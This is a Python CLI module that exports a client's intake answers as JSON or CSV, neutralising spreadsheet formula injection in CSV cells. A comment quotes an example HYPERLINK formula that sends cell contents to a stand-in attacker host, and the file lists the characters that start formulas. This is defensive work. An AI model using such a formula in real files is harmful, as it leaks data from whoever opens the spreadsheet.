"""`onboard intake export SLUG`: a client's intake answers as JSON or CSV, for the team's tools.

Reads the database only; every failure is one clear line on stderr.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
from enum import StrEnum
from typing import Annotated, Any, NoReturn

import typer
from sqlalchemy import select

from onboard.bot import intake_fields
from onboard.bot.cli_errors import require_existing_database
from onboard.bot.errors import NotFound
from onboard.bot.intake_state import answers_of, questionnaire_of
from onboard.bot.settings import SettingsError, load_settings
from onboard.storage.db import Database
from onboard.storage.models import Client, Intake

intake_cli = typer.Typer(
    no_args_is_help=True,
    add_completion=False,
    pretty_exceptions_enable=False,
    help="Client intake answers: export.",
)
COLUMNS = ("page", "question", "label", "kind", "value", "answered_by", "answered_at")


class Format(StrEnum):
    json = "json"
    csv = "csv"


def _fail(message: str, code: int = 1) -> NoReturn:
    typer.echo(f"onboard: {message}", err=True)
    raise typer.Exit(code)


def export(db: Database, slug: str) -> dict[str, Any]:
    """The client's questionnaire with every question's current answer, in page order."""
    with db.transaction() as session:
        client = session.scalars(select(Client).where(Client.slug == slug)).first()
        if client is None:
            raise NotFound(f"no client with the slug {slug!r}")
        questionnaire = questionnaire_of(client)
        intake = session.scalars(select(Intake).where(Intake.client_id == client.id)).first()
        answers = answers_of(session, intake.id) if intake else {}
        rows = []
        for page, question in questionnaire.questions():
            answer = answers.get(question.key)
            rows.append(
                {
                    "page": page.key,
                    "question": question.key,
                    "label": question.label,
                    "kind": question.kind,
                    "value": answer.value if answer else None,
                    "answered_by": answer.answered_by if answer else None,
                    "answered_at": answer.answered_at.isoformat() if answer else None,
                }
            )
        return {
            "client": client.slug,
            "questionnaire": questionnaire.title,
            "status": intake.status if intake else "not_posted",
            "submitted_at": _iso(intake.submitted_at if intake else None),
            "verified_at": _iso(intake.verified_at if intake else None),
            "answers": rows,
        }


def _iso(moment: dt.datetime | None) -> str | None:
    return moment.isoformat() if moment else None


def as_csv(exported: dict[str, Any], db: Database) -> str:
    """One row per question; lists and files flattened into one cell each."""
    with db.transaction() as session:
        client = session.scalars(select(Client).where(Client.slug == exported["client"])).one()
        questionnaire = questionnaire_of(client)
    out = io.StringIO()
    writer = csv.DictWriter(out, COLUMNS, lineterminator="\n")
    writer.writeheader()
    for row in exported["answers"]:
        question = questionnaire.question(row["question"])
        cells = {**row, "value": intake_fields.flat(question, row["value"])}
        writer.writerow({name: _inert(value) for name, value in cells.items()})
    return out.getvalue()


# A cell a spreadsheet would read as a formula: the client typed the answers, and the team
# opens this file in Excel or Sheets (`=HYPERLINK("https://evil.example/?"&A1, "Brief")`).
_FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def _inert(value: Any) -> Any:
    """The cell as text a spreadsheet shows and does not run (OWASP's leading apostrophe; a
    phone number +44… stays text too, rather than a number that loses its +)."""
    if isinstance(value, str) and value.startswith(_FORMULA_START):
        return "'" + value
    return value


@intake_cli.command("export")
def export_command(
    slug: Annotated[str, typer.Argument(help="The client's slug, as `/onboard status` shows.")],
    format: Annotated[Format, typer.Option("--format", help="json or csv.")] = Format.json,
) -> None:
    """Print a client's intake answers (JSON by default, or CSV) on standard output."""
    try:
        url = load_settings().database_url
    except SettingsError as exc:
        _fail(str(exc), 2)
    # Its other database errors are cli.py's (cli_errors.one_line): one line, exit 2.
    require_existing_database(url)
    db = Database(url)
    try:
        exported = export(db, slug)
        text = (
            as_csv(exported, db)
            if format is Format.csv
            else json.dumps(exported, ensure_ascii=False, indent=2) + "\n"
        )
    except NotFound as exc:
        _fail(str(exc))
    finally:
        db.dispose()
    typer.echo(text, nl=False)
